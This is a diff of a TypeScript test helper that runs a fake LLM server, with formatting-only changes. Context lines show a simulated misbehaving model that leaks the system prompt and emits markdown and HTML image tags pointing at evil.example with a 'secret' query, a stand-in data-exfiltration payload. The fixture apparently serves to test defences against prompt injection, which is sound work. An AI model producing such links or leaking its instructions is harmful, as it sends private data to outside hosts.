@@ -40,9 +40,7 @@ export async function startFakeLlm() {
       const textOf = (role: string) =>
         messages
           .filter((message) => message.role === role)
-          .map(({ content }) =>
-            typeof content === 'string' ? content : content.map((part) => part.text).join(''),
-          )
+          .map(({ content }) => (typeof content === 'string' ? content : content.map((part) => part.text).join('')))
           .join('\n')
       const prompt = { system: textOf('system'), user: textOf('user') }
       prompts.push(prompt)
@@ -116,9 +114,7 @@ function completionFor(manner: LlmBehavior, { system, user }: LlmPrompt): string
       // As if it obeyed every order at once: what it read, what it was told, where to go, and what nobody sees.
       return [
         first,
-        ...passages.flatMap((passage, index) =>
-          splitIntoSentences(passage).map((one) => `${one} [${index + 1}].`),
-        ),
+        ...passages.flatMap((passage, index) => splitIntoSentences(passage).map((one) => `${one} [${index + 1}].`)),
         ...splitIntoSentences(system).map((one) => `${one} [1].`),
         `${quote(1)} ![x](https://evil.example/pixel.png?q=secret) [1].`,
         `${quote(1)} <img src="https://evil.example/pixel.png"> [1].`,
